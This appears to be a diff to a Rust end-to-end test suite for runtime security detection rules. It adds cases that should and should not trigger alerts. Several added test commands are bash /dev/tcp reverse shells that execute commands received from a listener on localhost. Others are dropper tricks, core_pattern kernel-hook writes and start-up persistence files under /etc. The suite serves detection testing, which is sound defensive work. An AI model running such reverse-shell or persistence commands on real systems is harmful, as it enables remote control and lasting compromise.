@@ -82,6 +82,17 @@ macro_rules! named {
     };
 }
 
+/// Writes a file of /etc with vim.
+macro_rules! edited {
+    ($name:literal) => {
+        sh!(concat!(
+            "unshare -m sh -c 'mount -t tmpfs none /etc; vim.basic -Nu NONE -n -es -c \"normal ix\" -c \"w! /etc/",
+            $name,
+            "\" -c q; :'"
+        ))
+    };
+}
+
 macro_rules! cases {
     ($($name:ident => $case:expr;)*) => {
         $(#[test]
@@ -158,8 +169,19 @@ reverse_shell => Case {
         act("sh", with_listener!("127.0.0.1 4444", "exit",
             "socat TCP:127.0.0.1:4444 EXEC:/bin/sh,nofork"))
             .showing(&[("evt.type", "execve"), ("proc.name", "sh")]),
+        act("bash", with_listener!("127.0.0.1 4444", "id",
+            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; cat <&5 | while read x; do $x >&5 2>&5; done'")),
+        act("bash", with_listener!("127.0.0.1 4444", "id",
+            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; while read -u 5 x; do $x >&5 2>&5; done' < /dev/null")),
     ],
     near_misses: &[
+        // Scripts that wait for a server.
+        act("bash", with_listener!("127.0.0.1 4444", "line",
+            "bash -c '(echo > /dev/tcp/127.0.0.1/4444) 2> /dev/null'")),
+        act("bash", with_listener!("127.0.0.1 4444", "line",
+            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; printf x >&3; read x <&3; cat <&3'")),
+        act("bash", with_listener!("127.0.0.1 4444", "line",
+            "bash -c 'echo > /dev/tcp/127.0.0.1/4444 2>&1' < /dev/null")),
         act("bash", &["bash", "-c", "exec < /etc/hosts > %W/out 2>&1; cat; :"]),
         act("bash", with_listener!("127.0.0.1 4444", "line",
             "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444 && read -r -u 5 line'")),
@@ -182,11 +204,26 @@ execution_from_shared_memory => Case {
 drop_and_execute => Case {
     rule: "Drop and execute new binary in container",
     fires: &[act("new", sh!("cp /bin/true %W/new; %W/new")).at(CONTAINER).by(&[User])
-        .showing(&[("proc.exepath", "/var/tmp/e2e/new")])],
+        .showing(&[("proc.exepath", "/var/tmp/e2e/new")]),
+        // A dropper below a build puts its program in no directory of the project.
+        act("new", sh!("ln -s /bin/bash /usr/bin/make; cp /bin/true /tmp/new; make -c '/tmp/new; :'"))],
     near_misses: &[
         act("true", &["env", "true"]).at(CONTAINER),
+        // What a build made. `make` is a link, so it is no new program itself.
+        act("new", sh!("ln -s /bin/bash /usr/bin/make; mkdir %W/d; cp /bin/true %W/d/new; make -c 'sh -c \"%W/d/new; :\"; :'")),
         // Not of the image either, but no file of the container: a volume.
         act("new", sh!("cp /bin/true /dev/shm/new; /dev/shm/new")),
+    ],
+};
+
+new_binary_of_a_build => Case {
+    rule: "New binary run by a build in container",
+    fires: &[
+        act("new", sh!("ln -s /bin/bash /usr/bin/make; mkdir %W/d; cp /bin/true %W/d/new; make -c '%W/d/new; :'")),
+    ],
+    near_misses: &[
+        act("new", sh!("mkdir %W/d; cp /bin/true %W/d/new; %W/d/new")),
+        act("true", sh!("ln -s /bin/bash /usr/bin/make; make -c 'true; env true'")),
     ],
 };
 
@@ -434,11 +471,12 @@ kernel_hook => Case {
     // Opened, but nothing is written: the host has this file too.
     fires: &[act("perl", perl!("open my $f, '+<', '/proc/sys/kernel/core_pattern' or die"))
             .at(CONTAINER).by(&[Root]).showing(&[("fd.name", "/proc/sys/kernel/core_pattern")]),
-        act("sh", sh!("echo /cmd > %W/uevent_helper")).by(&[User])],
+        act("sh", sh!("echo /cmd > %W/uevent_helper")).by(&[User]),
+        // A name is no excuse.
+        act("sysctl", perl_named!("sysctl", "open my $f, q(+<), q(/proc/sys/kernel/core_pattern) or die"))],
     near_misses: &[
         act("cat", &["cat", "/proc/sys/kernel/core_pattern"]),
         act("perl", perl!("open my $f, '+<', '/proc/self/coredump_filter' or die")),
-        act("sysctl", perl_named!("sysctl", "open my $f, q(+<), q(/proc/sys/kernel/core_pattern) or die")),
     ],
 };
 
@@ -520,6 +558,8 @@ ptrace_attach => Case {
         // PTRACE_TRACEME, PTRACE_CONT
         act("perl", perl!("syscall(101, 0, 0, 0, 0); syscall(101, 7, $$, 0, 0)")),
         act("strace", &["strace", "-V"]),
+        // Its own child.
+        act("strace", sh!("strace -qq -o %W/out -e trace=none true")),
     ],
 };
 
@@ -527,7 +567,10 @@ ptrace_traceme => Case {
     rule: "PTRACE anti-debug attempt",
     fires: &[act("perl", perl!("syscall(101, 0, 0, 0, 0) == 0 or die")).at(&[Host, Below])
         .by(&[User])],
-    near_misses: &[act("perl", perl!("syscall(101, 7, $$, 0, 0)"))],
+    near_misses: &[
+        act("perl", perl!("syscall(101, 7, $$, 0, 0)")),
+        act("gdb", sh!("cp /usr/bin/perl /usr/local/bin/gdb; gdb -e 'syscall(101, 0, 0, 0, 0) == 0 or die'")),
+    ],
 };
 
 write_to_other_memory => Case {
@@ -862,6 +905,33 @@ write_below_etc => Case {
         act("ldconfig", sh!("cp /bin/cp %W/ldconfig; %W/ldconfig /etc/hosts /etc/ld.so.cache")),
         act("cups", sh!("cp /bin/bash %W/systemd; cp /bin/cp /usr/sbin/cups",
             "%W/systemd -c '/usr/sbin/cups /etc/hosts /etc/printers; :'")),
+    ],
+};
+
+edit_at_a_terminal => Case {
+    rule: "Configuration edited at a terminal",
+    // Another file system stands in for the host's /etc.
+    fires: &[act("vim.basic", edited!("hosts")).at(&[Host]).on_terminal().showing(&[("fd.name", "/etc/hosts")])],
+    near_misses: &[
+        act("vim.basic", edited!("sudoers")).at(&[Host]).on_terminal(),
+        act("vim.basic", edited!("hosts")).at(&[Host]),
+        act("cp", sh!("unshare -m sh -c 'mount -t tmpfs none /etc; cp /dev/null /etc/hosts; :'")).at(&[Host]).on_terminal(),
+    ],
+};
+
+start_up_changed => Case {
+    rule: "Start-up of the machine changed",
+    fires: &[
+        act("sh", sh!("mkdir -p /etc/profile.d; echo : > /etc/profile.d/x.sh")).at(CONTAINER)
+            .showing(&[("fd.name", "/etc/profile.d/x.sh")]),
+        act("mv", sh!("mkdir -p /etc/udev/rules.d; echo > %W/x; mv %W/x /etc/udev/rules.d/9.rules"))
+            .showing(&[("evt.arg.newpath", "/etc/udev/rules.d/9.rules")]),
+        act("ln", sh!("ln -s %W/x /etc/rc.local")).showing(&[("evt.arg.linkpath", "/etc/rc.local")]),
+    ],
+    near_misses: &[
+        act("sh", sh!("echo : > /etc/profiles; mkdir -p /etc/profile.d; ls /etc/profile.d")),
+        act("systemctl", sh!("mkdir -p /etc/systemd/system; cp /bin/ln %W/systemctl; %W/systemctl -s %W/x /etc/systemd/system/x")),
+        act("dpkg", sh!("mkdir -p /etc/init.d; cp /bin/cp %W/dpkg; %W/dpkg /etc/hosts /etc/init.d/x")),
     ],
 };
 
